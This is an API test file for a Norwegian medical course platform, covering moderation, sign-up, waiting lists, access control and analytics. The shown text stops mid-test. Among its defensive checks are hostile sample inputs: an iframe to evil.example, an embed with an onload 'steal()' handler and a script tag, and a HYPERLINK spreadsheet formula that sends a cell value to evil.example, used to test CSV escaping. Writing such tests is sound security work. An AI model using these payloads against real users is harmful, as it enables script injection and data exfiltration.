import { courseEndpoints as ep, courseRecordEndpoints } from '@legenett/contracts';
import { schema } from '@legenett/db';
import { and, eq } from 'drizzle-orm';
import { createTestApp, type TestApp, uniqueToken } from '../../../test/app';
import { createCompany, createUser, tokenFor } from '../../../test/auth';
import { type BodyIn, type Caller, invalid } from '../../../test/call';
import { type CourseRow, DAY, HOUR, insertCourse as insertCourseRow, MINUTE } from '../../../test/courses';
import { insertReferenceFixtures } from '../../../test/fixtures';
import { settleJobs } from '../../../test/jobs';

type Fixtures = Awaited<ReturnType<typeof insertReferenceFixtures>>;
type CourseBody = BodyIn<typeof ep.create>;

let t: TestApp;
let fx: Fixtures;
let token: string;
let category: number;
/** A category of another type: not a course category. */
let productCategory: number;

beforeAll(async () => {
  t = await createTestApp();
  token = uniqueToken();
  fx = await insertReferenceFixtures(t.db, token);
  const [row] = await t.db
    .insert(schema.categories)
    .values({ type: 'course', code: `cc-${token}`, name: { no: `Akuttmedisin ${token}`, en: `Emergency medicine ${token}` } })
    .returning({ id: schema.categories.id });
  category = row!.id;
  const [product] = await t.db
    .insert(schema.categories)
    .values({ type: 'product', code: `pc-${token}`, name: { no: `Stetoskop ${token}` } })
    .returning({ id: schema.categories.id });
  productCategory = product!.id;
});
afterAll(async () => {
  await t.close();
});

const inFuture = (ms: number) => new Date(Date.now() + ms).toISOString();

const courseBody = (overrides: Partial<CourseBody> = {}): CourseBody => ({
  type: 'webinar',
  title: `Hjertesvikt i allmennpraksis ${token}`,
  description: 'Program: diagnostikk, behandling og oppfølging.',
  target: 'Fastleger',
  category_id: category,
  specialty_ids: [fx.specialty.id],
  county_id: fx.county.id,
  city_id: fx.city.id,
  start_at: inFuture(5 * DAY),
  duration_minutes: 60,
  subscription_deadline: inFuture(4 * DAY),
  host_name: 'Dr. Kari Nordmann',
  embed_code: null,
  video_link: 'https://meet.example.no/webinar/1',
  ...overrides,
});

async function createCourse(me: Caller, overrides: Partial<CourseBody> = {}) {
  const res = await t.call(ep.create, { as: me, body: courseBody(overrides), locale: 'en' });
  if (res.status !== 201) throw new Error(`create answered ${res.status}: ${JSON.stringify(res.body)}`);
  return res.parsed.data;
}

/** A course written straight to the database in any state and at any time; its id. */
const insertCourse = async (o: CourseRow) => (await insertCourseRow(t.db, o)).id;

let adminSession: Awaited<ReturnType<TestApp['session']>> | undefined;
const admin = async () => (adminSession ??= await t.session({ roles: ['admin'] }));

const mailsTo = (userId: number) =>
  t.db.select().from(schema.outboxMessages).where(eq(schema.outboxMessages.user_id, userId));
const notificationsOf = (userId: number) =>
  t.db.select().from(schema.notifications).where(eq(schema.notifications.user_id, userId));

describe('organising and moderating a course', () => {
  it('creates a draft, edits it, submits it; the admin approves it; then it is locked and public', async () => {
    const owner = await t.session();
    const other = await t.session();
    const draft = await createCourse(owner);
    expect(draft).toMatchObject({
      status: 'draft',
      type: 'webinar',
      creator_type: 'user',
      duration_minutes: 60,
      category: { id: category },
      specialities: [{ id: fx.specialty.id }],
      can_edit: true,
      attendees_count: 0,
    });
    expect(new Date(draft.ends_at).getTime() - new Date(draft.start_at).getTime()).toBe(HOUR);
    // A draft is private: others get 404.
    expect((await t.call(ep.show, { as: other, params: { id: draft.id } })).status).toBe(404);
    expect((await t.call(ep.myShow, { as: other, params: { id: draft.id } })).status).toBe(404);

    const edited = await t.call(ep.update, { as: owner, params: { id: draft.id }, body: courseBody({ duration_minutes: 90, title: `Endret ${token}` }) });
    expect(edited.parsed.data).toMatchObject({ duration_minutes: 90, title: `Endret ${token}` });
    const submitted = await t.call(ep.submit, { as: owner, params: { id: draft.id } });
    expect(submitted.parsed.data).toMatchObject({ status: 'submitted' });
    expect(submitted.parsed.data.submitted_at).not.toBeNull();
    // Submitting twice is not in the table.
    const again = await t.call(ep.submit, { as: owner, params: { id: draft.id }, locale: 'en' });
    expect(again.status).toBe(409);
    expect(again.error.message).toBe('The course cannot be submitted for review while it is "In review".');

    const queue = (await t.call(ep.adminQueue, { as: await admin(), query: { per_page: 50 } })).parsed;
    const queued = queue.data.find((c) => c.id === draft.id);
    expect(queued?.organiser.id).toBe(owner.user.id);
    const approved = await t.call(ep.approve, { as: await admin(), params: { id: draft.id } });
    expect(approved.parsed.data).toMatchObject({ status: 'approved', decisions: [{ decision: 'approved', reason: null, admin: { id: (await admin()).user.id } }] });
    await settleJobs(t);
    expect((await notificationsOf(owner.user.id)).map((n) => [n.kind, n.entity_id])).toEqual([['course_decision', draft.id]]);
    expect((await mailsTo(owner.user.id)).map((m) => m.template)).toEqual(['course_approved']);

    // Approved is locked: editing answers 409 with a clear message; the row is unchanged.
    const locked = await t.call(ep.update, { as: owner, params: { id: draft.id }, body: courseBody({ title: 'Nytt navn' }), locale: 'en' });
    expect(locked.status).toBe(409);
    expect(locked.error.message).toBe('An approved course cannot be changed. You can cancel it.');
    expect((await t.call(ep.show, { as: other, params: { id: draft.id } })).parsed.data).toMatchObject({ title: `Endret ${token}`, can_edit: false });
    // Deciding twice is refused.
    expect((await t.call(ep.reject, { as: await admin(), params: { id: draft.id }, body: { reason: 'For sent' } })).status).toBe(409);
  });

  it('rejects with a reason (recorded, organiser told in their language); the owner fixes and resubmits', async () => {
    const user = await createUser(t.db, { locale: 'en' });
    const owner = await tokenFor(t, user);
    const course = await createCourse(owner);
    // Approving a draft is not in the table.
    expect((await t.call(ep.approve, { as: await admin(), params: { id: course.id } })).status).toBe(409);
    await t.call(ep.submit, { as: owner, params: { id: course.id } });
    const noReason = await t.call(ep.reject, { as: await admin(), params: { id: course.id }, body: invalid({ reason: '' }), locale: 'en' });
    expect(noReason.status).toBe(422);
    expect(noReason.validation.errors.reason).toBeDefined();
    const rejected = await t.call(ep.reject, { as: await admin(), params: { id: course.id }, body: { reason: 'Programmet mangler.' } });
    expect(rejected.parsed.data).toMatchObject({ status: 'rejected', moderation_reason: 'Programmet mangler.' });
    await settleJobs(t);
    const [mail] = await mailsTo(user.id);
    expect(mail).toMatchObject({ template: 'course_rejected', locale: 'en' });
    expect(mail!.subject).toContain('was not approved');

    await t.call(ep.update, { as: owner, params: { id: course.id }, body: courseBody({ description: 'Program: 18.00 Velkommen. 18.10 Foredrag.' }) });
    const resubmitted = await t.call(ep.submit, { as: owner, params: { id: course.id } });
    expect(resubmitted.parsed.data).toMatchObject({ status: 'submitted', moderation_reason: null });
    const history = (await t.call(ep.adminShow, { as: await admin(), params: { id: course.id } })).parsed.data.decisions;
    expect(history.map((d) => [d.decision, d.reason])).toEqual([['rejected', 'Programmet mangler.']]);
  });

  it('cancels from draft, submitted and approved; attendees get a notification and an e-mail', async () => {
    const owner = await t.session();
    const attendee = await t.session();
    const draft = await createCourse(owner);
    expect((await t.call(ep.cancel, { as: owner, params: { id: draft.id } })).parsed.data.status).toBe('cancelled');
    expect((await t.call(ep.cancel, { as: owner, params: { id: draft.id } })).status).toBe(409);
    const submitted = await createCourse(owner);
    await t.call(ep.submit, { as: owner, params: { id: submitted.id } });
    expect((await t.call(ep.cancel, { as: owner, params: { id: submitted.id } })).parsed.data.status).toBe('cancelled');

    const rejected = await createCourse(owner);
    await t.call(ep.submit, { as: owner, params: { id: rejected.id } });
    await t.call(ep.reject, { as: await admin(), params: { id: rejected.id }, body: { reason: 'Ikke relevant' } });
    expect((await t.call(ep.cancel, { as: owner, params: { id: rejected.id } })).status).toBe(409);

    const approved = await createCourse(owner);
    await t.call(ep.submit, { as: owner, params: { id: approved.id } });
    await t.call(ep.approve, { as: await admin(), params: { id: approved.id } });
    expect((await t.call(ep.subscribe, { as: attendee, params: { id: approved.id } })).parsed.data.status).toBe('attending');
    const cancelled = await t.call(ep.cancel, { as: owner, params: { id: approved.id } });
    expect(cancelled.parsed.data).toMatchObject({ status: 'cancelled' });
    expect(cancelled.parsed.data.cancelled_at).not.toBeNull();
    await settleJobs(t);
    expect((await notificationsOf(attendee.user.id)).map((n) => [n.kind, n.entity_id])).toEqual([['course_cancelled', approved.id]]);
    expect((await mailsTo(attendee.user.id)).map((m) => m.template)).toEqual(['course_cancelled']);
    // The attendee still sees the cancelled event (and it leaves the catalogue).
    expect((await t.call(ep.show, { as: attendee, params: { id: approved.id } })).parsed.data.status).toBe('cancelled');
    const list = (await t.call(ep.list, { as: attendee, query: { search: token, per_page: 50 } })).parsed.data;
    expect(list.map((c) => c.id)).not.toContain(approved.id);
  });

  it('cancels an event with a seat taken and people waiting: each is told once', async () => {
    const owner = await t.session();
    const people = await Promise.all([1, 2, 3].map(() => t.session()));
    const id = await insertCourse({ userId: owner.user.id, startOffset: 5 * DAY, max: 1, title: `Fullt ${token}` });
    const statuses = [];
    for (const p of people) statuses.push((await t.call(ep.subscribe, { as: p, params: { id } })).parsed.data.status);
    expect(statuses).toEqual(['attending', 'waiting', 'waiting']);
    const cancelled = await t.call(ep.cancel, { as: owner, params: { id } });
    expect(cancelled.status).toBe(200);
    expect(cancelled.parsed.data.status).toBe('cancelled');
    await settleJobs(t);
    for (const p of people) {
      expect((await notificationsOf(p.user.id)).map((n) => [n.kind, n.entity_id])).toEqual([['course_cancelled', id]]);
      expect((await mailsTo(p.user.id)).map((m) => m.template)).toEqual(['course_cancelled']);
    }
    expect(await notificationsOf(owner.user.id)).toEqual([]);
  });

  it('refuses a start in year 9999 (was a 500) on create and edit, in the asked language', async () => {
    const owner = await t.session();
    const created = await t.call(ep.create, { as: owner, body: courseBody({ start_at: '9999-12-31T23:00:00Z', subscription_deadline: null }), locale: 'en' });
    expect([created.status, created.validation.errors.start_at]).toEqual([422, ['The date must be between the years 1900 and 2100.']]);
    const draft = await createCourse(owner);
    const edited = await t.call(ep.update, { as: owner, params: { id: draft.id }, body: courseBody({ start_at: '9999-12-31T23:00:00Z', subscription_deadline: '0000-01-01T00:00:00Z' }) });
    expect(edited.status).toBe(422);
    expect(edited.validation.errors).toMatchObject({ start_at: ['Datoen må ligge mellom år 1900 og 2100.'], subscription_deadline: ['Datoen må ligge mellom år 1900 og 2100.'] });
    expect((await t.call(ep.myShow, { as: owner, params: { id: draft.id } })).parsed.data.start_at).toBe(draft.start_at);
  });

  it('refuses bad input with messages in the asked language', async () => {
    const me = await t.session();
    const fails = async (body: Partial<CourseBody>, field: string, message?: string) => {
      const res = await t.call(ep.create, { as: me, body: courseBody(body), locale: 'en' });
      expect([field, res.status]).toEqual([field, 422]);
      if (message) expect(res.validation.errors[field]).toEqual([message]);
    };
    await fails({ duration_minutes: 45 }, 'duration_minutes', 'The duration must be 30 min, 1 h, 1 h 30 min or 2 h.');
    await fails({ start_at: inFuture(-HOUR), subscription_deadline: null }, 'start_at', 'The start must be in the future.');
    await fails({ subscription_deadline: inFuture(6 * DAY) }, 'subscription_deadline', 'The sign-up deadline must be before the start.');
    await fails({ type: 'lunch_meeting', sponsor_name: 'Pharma AS', credit_hours: 2 }, 'credit_hours', 'A sponsored event cannot carry credit hours.');
    await fails({ type: 'small_group', max_attendees: 20 }, 'max_attendees', 'A small group has 3 to 12 seats.');
    await fails({ type: 'small_group', max_attendees: null }, 'max_attendees');
    await fails({ embed_code: '<iframe src="https://evil.example/x"></iframe>' }, 'embed_code');
    await fails({ specialty_ids: [999999999] }, 'specialty_ids');
    await fails({ category_id: productCategory }, 'category_id');
    await fails({ title: 'x' }, 'title');
    await fails({ start_at: 'i morgen' }, 'start_at');
    const company = await createCompany(t.db, { managers: [] });
    await fails({ partner_company_id: company.id }, 'partner_company_id', 'You do not manage this company.');
    const norwegian = await t.call(ep.create, { as: me, body: courseBody({ duration_minutes: 45 }) });
    expect(norwegian.validation.errors.duration_minutes).toEqual(['Varigheten må være 30 min, 1 t, 1 t 30 min eller 2 t.']);
    expect((await t.call(ep.create, { as: me, body: invalid({ ...courseBody(), type: 'party' }) })).status).toBe(422);
    expect((await t.call(ep.show, { as: me, params: invalid({ id: 'abc' }) })).status).toBe(422);
  });

  it('stores every type with its own fields; an embed code keeps only an allowed iframe src', async () => {
    const me = await t.session();
    const lunch = await createCourse(me, {
      type: 'lunch_meeting',
      hospital_id: fx.hospital.id,
      sponsor_name: 'Hjertemedisin AS',
      food_served: true,
      audience: 'Leger og LIS ved avdelingen',
      max_attendees: 20,
      duration_minutes: 30,
    });
    expect(lunch).toMatchObject({ type: 'lunch_meeting', sponsor_name: 'Hjertemedisin AS', food_served: true, credit_hours: null, max_attendees: 20, hospital: { id: fx.hospital.id } });
    const course = await createCourse(me, { type: 'course', address: 'Storgata 1', credit_hours: 7.5, credit_approved_by: 'Legeforeningen' });
    expect(course).toMatchObject({ credit_hours: 7.5, credit_approved_by: 'Legeforeningen', address: 'Storgata 1' });
    const group = await createCourse(me, { type: 'small_group', max_attendees: 8 });
    expect(group.max_attendees).toBe(8);
    const webinar = await createCourse(me, {
      embed_code: '<div><iframe width="560" src="https://www.youtube.com/embed/xyz" onload="steal()"></iframe><script>alert(1)</script></div>',
    });
    expect(webinar.embed_code).toBe('<iframe src="https://www.youtube.com/embed/xyz" allow="autoplay; fullscreen; picture-in-picture" allowfullscreen></iframe>');
  });

  it('creates as the company in business-profile mode, and lists by creator type', async () => {
    const user = await createUser(t.db, { roles: ['doctor', 'company_manager'] });
    const company = await createCompany(t.db, { managers: [user.id] });
    const asCompany = await tokenFor(t, user, { actAs: company.id });
    const course = await createCourse(asCompany, { type: 'lunch_meeting', sponsor_name: company.name });
    expect(course).toMatchObject({ creator_type: 'company', partner_company: { id: company.id } });
    const personal = await tokenFor(t, user);
    const own = await createCourse(personal);
    const byType = async (creator_type: 'user' | 'company') =>
      (await t.call(ep.myList, { as: personal, query: { creator_type } })).parsed.data.map((c) => c.id);
    expect(await byType('company')).toEqual([course.id]);
    expect(await byType('user')).toEqual([own.id]);
    // Attending is personal: refused while acting as the company.
    const res = await t.call(ep.subscribe, { as: asCompany, params: { id: course.id } });
    expect([res.status, res.error.reason]).toEqual([403, 'business_profile_active']);
  });

  it('filters own courses by type, speciality and status; others never see them', async () => {
    const me = await t.session();
    const stranger = await t.session();
    const webinar = await createCourse(me);
    const lunch = await createCourse(me, { type: 'lunch_meeting', specialty_ids: [] });
    const ids = async (query: object, as: Caller = me) => (await t.call(ep.myList, { as, query })).parsed.data.map((c) => c.id).sort();
    expect(await ids({})).toEqual([webinar.id, lunch.id].sort());
    expect(await ids({ type: 'lunch_meeting' })).toEqual([lunch.id]);
    expect(await ids({ speciality: fx.specialty.id })).toEqual([webinar.id]);
    expect(await ids({ status: 'submitted' })).toEqual([]);
    expect(await ids({}, stranger)).toEqual([]);
    for (const endpoint of [ep.myShow, ep.submit, ep.cancel]) {
      expect([endpoint.path, (await t.call(endpoint, { as: stranger, params: { id: webinar.id } })).status]).toEqual([endpoint.path, 404]);
    }
    expect((await t.call(ep.update, { as: stranger, params: { id: webinar.id }, body: courseBody() })).status).toBe(404);
    expect((await t.call(ep.myShow, { as: me, params: { id: webinar.id } })).parsed.data.status).toBe('draft');
  });
});

describe('the catalogue', () => {
  it('shows each tab with its current events first, ended ones appended, totals rounded to ten', async () => {
    const owner = await t.session();
    const me = await t.session();
    const word = `tab${uniqueToken()}`;
    const soon = await insertCourse({ title: `Snart ${word}`, startOffset: 2 * HOUR, userId: owner.user.id });
    const later = await insertCourse({ title: `Senere ${word}`, startOffset: 3 * DAY, userId: owner.user.id });
    const live = await insertCourse({ title: `Direkte ${word}`, startOffset: -10 * MINUTE, duration: 60, userId: owner.user.id });
    const ended = await insertCourse({ title: `Ferdig ${word}`, startOffset: -3 * HOUR, userId: owner.user.id });
    const older = await insertCourse({ title: `Eldre ${word}`, startOffset: -3 * DAY, userId: owner.user.id });
    await insertCourse({ title: `Utkast ${word}`, startOffset: DAY, userId: owner.user.id, status: 'draft' });
    await insertCourse({ title: `Avlyst ${word}`, startOffset: DAY, userId: owner.user.id, status: 'cancelled' });

    const tab = async (activeTab: 'upcoming' | 'live' | 'past', extra: object = {}) =>
      (await t.call(ep.list, { as: me, query: { search: word, activeTab, per_page: 3, ...extra } })).parsed;
    const upcoming = await tab('upcoming');
    expect(upcoming.meta).toEqual({ current_page: 1, last_page: 4, per_page: 3, total: 10 });
    expect(upcoming.data.map((c) => c.id)).toEqual([soon, later, ended]);
    expect((await tab('upcoming', { page: 2 })).data.map((c) => c.id)).toEqual([older]);
    const old = await tab('upcoming', { show_old: '1' });
    expect(old.meta.current_page).toBe(2);
    expect(old.data.map((c) => c.id)).toEqual([older]);

    const liveTab = await tab('live');
    expect(liveTab.data.map((c) => c.id)).toEqual([live, ended, older]);
    expect(liveTab.data[0]).toMatchObject({ is_live: true, is_past: false });
    const past = await tab('past');
    expect(past.data.map((c) => c.id)).toEqual([ended, older]);
    expect(past.meta.total).toBe(10);
    expect(past.data.every((c) => c.is_past)).toBe(true);

    const archived = (await t.call(ep.archived, { as: me, query: { search: word } })).parsed;
    expect(archived.data.map((c) => c.id)).toEqual([ended, older]);
    expect(archived.meta.total).toBe(2);
  });

  it('filters by speciality, county, city and type; lists accept comma lists and repeats', async () => {
    const me = await t.session();
    const word = `filt${uniqueToken()}`;
    const webinar = await createCourse(me, { title: `Webinar ${word}`, county_id: fx.county.id, city_id: fx.city.id });
    const lunch = await createCourse(me, { title: `Lunsj ${word}`, type: 'lunch_meeting', county_id: fx.otherCounty.id, city_id: null, specialty_ids: [] });
    for (const c of [webinar, lunch]) {
      await t.call(ep.submit, { as: me, params: { id: c.id } });
      await t.call(ep.approve, { as: await admin(), params: { id: c.id } });
    }
    const ids = async (query: object) =>
      (await t.call(ep.list, { as: me, query: { search: word, ...query } })).parsed.data.map((c) => c.id);
    expect(await ids({})).toEqual([webinar.id, lunch.id]);
    expect(await ids({ type: 'lunch_meeting' })).toEqual([lunch.id]);
    expect(await ids({ specialities: String(fx.specialty.id) })).toEqual([webinar.id]);
    expect(await ids({ counties: `${fx.otherCounty.id}` })).toEqual([lunch.id]);
    expect(await ids({ counties: `${fx.county.id},${fx.otherCounty.id}` })).toEqual([webinar.id, lunch.id]);
    expect(await ids({ cities: [String(fx.city.id)] })).toEqual([webinar.id]);
    const bad = await t.call(ep.list, { as: me, query: invalid({ counties: 'abc' }), locale: 'en' });
    expect(bad.status).toBe(422);
    expect((await t.call(ep.list, { as: me, query: invalid({ activeTab: 'tomorrow' }) })).status).toBe(422);
    expect((await t.call(ep.list, { as: me, query: { search: '"( & ! :*' } })).status).toBe(200);
  });

  it('serves an .ics file per event', async () => {
    const me = await t.session();
    const owner = await t.session();
    const id = await insertCourse({ title: `Kalender, ${token}; test`, startOffset: DAY, userId: owner.user.id });
    const res = await t.http.get(`/api/courses/${id}/calendar.ics`).set('Authorization', `Bearer ${me.accessToken}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('text/calendar');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="course-${id}.ics"`);
    const text = res.text;
    expect(text).toContain('BEGIN:VEVENT');
    expect(text).toContain(`SUMMARY:Kalender\\, ${token}\\; test`);
    expect(text).toMatch(/DTSTART:\d{8}T\d{6}Z/);
    expect((await t.http.get(`/api/courses/${id}/calendar.ics`)).status).toBe(401);
    expect((await t.http.get('/api/courses/999999999/calendar.ics').set('Authorization', `Bearer ${me.accessToken}`)).status).toBe(404);
  });
});

describe('attending', () => {
  it('fills the seats, then a waiting list that moves up in order with a notification', async () => {
    const owner = await t.session();
    const id = await insertCourse({ title: `Lunsj ${token}`, type: 'lunch_meeting', startOffset: 2 * DAY, userId: owner.user.id, max: 2 });
    const [a, b, c, d] = await Promise.all([t.session(), t.session(), t.session(), t.session()]);
    const join = async (as: Caller) => (await t.call(ep.subscribe, { as, params: { id } })).parsed.data;
    expect(await join(a)).toMatchObject({ status: 'attending', attendees_count: 1, waiting_position: null });
    expect(await join(b)).toMatchObject({ status: 'attending', attendees_count: 2 });
    expect(await join(c)).toMatchObject({ status: 'waiting', waiting_position: 1, waiting_count: 1 });
    expect(await join(d)).toMatchObject({ status: 'waiting', waiting_position: 2, waiting_count: 2 });
    // Subscribing again changes nothing.
    expect(await join(d)).toMatchObject({ status: 'waiting', waiting_position: 2 });
    expect((await t.call(ep.show, { as: d!, params: { id } })).parsed.data).toMatchObject({ my_subscription: 'waiting', my_waiting_position: 2, attendees_count: 2, waiting_count: 2 });

    const left = (await t.call(ep.unsubscribe, { as: a!, params: { id } })).parsed.data;
    expect(left).toMatchObject({ status: null, attendees_count: 2, waiting_count: 1 });
    expect((await t.call(ep.show, { as: c!, params: { id } })).parsed.data).toMatchObject({ my_subscription: 'attending', my_waiting_position: null });
    expect((await t.call(ep.show, { as: d!, params: { id } })).parsed.data.my_waiting_position).toBe(1);
    await settleJobs(t);
    expect((await notificationsOf(c!.user.id)).map((n) => [n.kind, n.entity_id])).toEqual([['course_seat_offered', id]]);
    expect(await notificationsOf(d!.user.id)).toEqual([]);
    // Leaving the waiting list frees no seat.
    expect((await t.call(ep.unsubscribe, { as: d!, params: { id } })).parsed.data).toMatchObject({ status: null, attendees_count: 2, waiting_count: 0 });
    const [row] = await t.db.select({ n: schema.courses.attendees_count }).from(schema.courses).where(eq(schema.courses.id, id));
    expect(row!.n).toBe(2);
  });

  it('gives the last seat to one of two at the same time', async () => {
    const owner = await t.session();
    const id = await insertCourse({ title: `Siste plass ${token}`, startOffset: 2 * DAY, userId: owner.user.id, max: 1 });
    const [a, b] = await Promise.all([t.session(), t.session()]);
    const results = await Promise.all([a, b].map(async (as) => (await t.call(ep.subscribe, { as, params: { id } })).parsed.data.status));
    expect(results.sort()).toEqual(['attending', 'waiting']);
    const seats = await t.db
      .select()
      .from(schema.courseSubscriptions)
      .where(and(eq(schema.courseSubscriptions.course_id, id), eq(schema.courseSubscriptions.status, 'attending')));
    expect(seats).toHaveLength(1);
  });

  it('closes sign-up at the deadline; drafts, others\' submitted and unknown events are 404', async () => {
    const owner = await t.session();
    const me = await t.session();
    const closed = await insertCourse({ title: `Frist ${token}`, startOffset: DAY, deadlineOffset: -MINUTE, userId: owner.user.id });
    const res = await t.call(ep.subscribe, { as: me, params: { id: closed }, locale: 'en' });
    expect([res.status, res.error.message]).toEqual([409, 'Sign-up is closed.']);
    const started = await insertCourse({ title: `Startet ${token}`, startOffset: -MINUTE, userId: owner.user.id });
    expect((await t.call(ep.subscribe, { as: me, params: { id: started } })).status).toBe(409);
    const draft = await insertCourse({ title: `Kladd ${token}`, startOffset: DAY, userId: owner.user.id, status: 'draft' });
    const submitted = await insertCourse({ title: `Innsendt ${token}`, startOffset: DAY, userId: owner.user.id, status: 'submitted' });
    for (const id of [draft, submitted, 999999999]) {
      for (const endpoint of [ep.show, ep.subscribe, ep.unsubscribe]) {
        expect([endpoint.path, id, (await t.call(endpoint, { as: me, params: { id } })).status]).toEqual([endpoint.path, id, 404]);
      }
    }
  });

  it('lists the events I attend, upcoming and past', async () => {
    const owner = await t.session();
    const me = await t.session();
    const next = await insertCourse({ title: `Neste ${token}`, startOffset: DAY, userId: owner.user.id });
    const past = await insertCourse({ title: `Forbi ${token}`, startOffset: -2 * DAY, userId: owner.user.id });
    await t.call(ep.subscribe, { as: me, params: { id: next } });
    await t.db.insert(schema.courseSubscriptions).values({ course_id: past, user_id: me.user.id });
    const upcoming = (await t.call(ep.attending, { as: me })).parsed;
    expect(upcoming.data.map((c) => [c.id, c.my_subscription])).toEqual([[next, 'attending']]);
    const done = (await t.call(ep.attending, { as: me, query: { when: 'past' } })).parsed;
    expect(done.data.map((c) => c.id)).toEqual([past]);
    expect(done.meta.total).toBe(1);
  });
});

describe('access', () => {
  const everyEndpoint = () =>
    [
      [ep.list, undefined],
      [ep.archived, undefined],
      [ep.attending, undefined],
      [ep.show, { id: 1 }],
      [ep.subscribe, { id: 1 }],
      [ep.unsubscribe, { id: 1 }],
      [ep.myList, undefined],
      [ep.myShow, { id: 1 }],
      [ep.create, undefined],
      [ep.update, { id: 1 }],
      [ep.submit, { id: 1 }],
      [ep.cancel, { id: 1 }],
    ] as const;
  const adminEndpoints = () =>
    [
      [ep.adminQueue, undefined],
      [ep.adminShow, { id: 1 }],
      [ep.approve, { id: 1 }],
      [ep.reject, { id: 1 }],
    ] as const;

  it('answers 401 to anonymous callers on every endpoint', async () => {
    for (const [endpoint, params] of [...everyEndpoint(), ...adminEndpoints()]) {
      const res = await t.call(endpoint, { as: null, params, body: courseBody() });
      expect([endpoint.path, res.status]).toEqual([endpoint.path, 401]);
    }
  });

  it('answers 403 to accounts awaiting approval and in review', async () => {
    const pending = await t.session({ status: 'awaiting_approval', approvedHrp: 0 });
    const review = await t.session({ status: 'in_review' });
    for (const [endpoint, params] of everyEndpoint()) {
      const a = await t.call(endpoint, { as: pending, params, body: courseBody() });
      expect([endpoint.path, a.status, a.error.reason]).toEqual([endpoint.path, 403, 'account_not_approved']);
      const b = await t.call(endpoint, { as: review, params, body: courseBody() });
      expect([endpoint.path, b.status, b.error.reason]).toEqual([endpoint.path, 403, 'account_in_review']);
    }
  });

  it('lets students browse and attend but not organise; only admins moderate', async () => {
    const owner = await t.session();
    const id = await insertCourse({ title: `Student ${token}`, startOffset: DAY, userId: owner.user.id });
    const student = await t.session({ roles: ['student'] });
    expect((await t.call(ep.list, { as: student })).status).toBe(200);
    expect((await t.call(ep.subscribe, { as: student, params: { id } })).status).toBe(200);
    for (const [endpoint, params] of [
      [ep.create, undefined],
      [ep.update, { id }],
      [ep.submit, { id }],
      [ep.cancel, { id }],
    ] as const) {
      const res = await t.call(endpoint, { as: student, params, body: courseBody() });
      expect([endpoint.path, res.status, res.error.reason]).toEqual([endpoint.path, 403, 'missing_permission']);
    }
    const doctor = await t.session();
    for (const [endpoint, params] of adminEndpoints()) {
      const res = await t.call(endpoint, { as: doctor, params, body: { reason: 'Nei takk' } });
      expect([endpoint.path, res.status, res.error.reason]).toEqual([endpoint.path, 403, 'missing_permission']);
    }
    for (const endpoint of [ep.adminShow, ep.approve, ep.reject]) {
      const res = await t.call(endpoint, { as: await admin(), params: { id: 999999999 }, body: { reason: 'Finnes ikke' } });
      expect([endpoint.path, res.status]).toEqual([endpoint.path, 404]);
    }
  });

  it('answers 404 for courses that do not exist', async () => {
    const me = await t.session();
    for (const endpoint of [ep.show, ep.subscribe, ep.unsubscribe, ep.myShow, ep.submit, ep.cancel]) {
      expect([endpoint.path, (await t.call(endpoint, { as: me, params: { id: 999999999 } })).status]).toEqual([endpoint.path, 404]);
    }
    expect((await t.call(ep.update, { as: me, params: { id: 999999999 }, body: courseBody() })).status).toBe(404);
  });
});

describe('viewing analytics', () => {
  /** An approved webinar with a video link, and a seat on it for each of `seated`. */
  async function watchable(o: CourseRow, ...seated: number[]) {
    const id = await insertCourse(o);
    await t.db.update(schema.courses).set({ video_link: 'https://meet.example.no/webinar/1', attendees_count: seated.length }).where(eq(schema.courses.id, id));
    if (seated.length > 0) await t.db.insert(schema.courseSubscriptions).values(seated.map((user_id) => ({ course_id: id, user_id })));
    return id;
  }

  it('opens viewings only of events that can be watched, for those who may watch them', async () => {
    const owner = await t.session();
    const me = await t.session();
    const at = { startOffset: -5 * MINUTE, userId: owner.user.id };
    const refused = async (id: number) => {
      const res = await t.call(ep.enteredOn, { as: me, params: { id }, locale: 'en' });
      return [res.status, res.error.message];
    };
    const nothing = [409, 'There is nothing for you to watch here: only webinars with a video, with a seat, or as a recording after the end.'];
    // The hostile tester's case: an approved in-person course, no seat, nothing to play.
    expect(await refused(await insertCourse({ ...at, type: 'course', credit: 2 }))).toEqual(nothing);
    // A lunch meeting with a seat, a webinar with nothing to play: still nothing to watch.
    const lunch = await insertCourse({ ...at, type: 'lunch_meeting' });
    await t.db.insert(schema.courseSubscriptions).values({ course_id: lunch, user_id: me.user.id });
    expect(await refused(lunch)).toEqual(nothing);
    const empty = await insertCourse(at);
    await t.db.insert(schema.courseSubscriptions).values({ course_id: empty, user_id: me.user.id });
    expect(await refused(empty)).toEqual(nothing);
    // A live webinar without a seat: not until it has ended (then the replay is open to every member).
    expect(await refused(await watchable(at))).toEqual(nothing);
    expect((await t.call(ep.enteredOn, { as: me, params: { id: await watchable({ ...at, startOffset: -2 * HOUR }) } })).status).toBe(201);
    expect((await t.call(ep.enteredOn, { as: me, params: { id: await watchable(at, me.user.id) } })).status).toBe(201);
    expect(await t.db.select().from(schema.courseViewRecords).where(eq(schema.courseViewRecords.user_id, me.user.id))).toHaveLength(2);
  });

  it('limits opening viewings to 30 in 10 minutes per person (429 with Retry-After)', async () => {
    const owner = await t.session();
    const me = await t.session();
    const id = await watchable({ title: `Mange ${token}`, startOffset: -5 * MINUTE, userId: owner.user.id }, me.user.id);
    const statuses: number[] = [];
    for (let i = 0; i < 31; i++) statuses.push((await t.call(ep.enteredOn, { as: me, params: { id } })).status);
    expect(statuses.slice(0, 30).every((s) => s === 201)).toBe(true);
    expect(statuses[30]).toBe(429);
  });

  it('writes a name that is a spreadsheet formula as text in the attendance CSV', async () => {
    const owner = await t.session();
    const evil = await t.session({ firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Click")', lastName: '-2+3' });
    const id = await watchable({ title: `Formel ${token}`, startOffset: DAY, userId: owner.user.id }, evil.user.id);
    // English: commas between the cells (a Norwegian reader gets semicolons, common/csv).
    const csv = await t.http.get(`/api/my/courses/${id}/attendance.csv`).set('Authorization', `Bearer ${owner.accessToken}`).set('X-localization', 'en');
    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\n');
    expect(lines[1]!.startsWith(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") -2+3",`)).toBe(true);
    expect(lines[1]!.endsWith(',0,0')).toBe(true);
  });

  it('counts one person once: five viewings open at once are 30 minutes, not 150', async () => {
    const owner = await t.session();
    const me = await t.session();
    const id = await watchable({ title: `Faner ${token}`, startOffset: -2 * HOUR, duration: 30, userId: owner.user.id }, me.user.id);
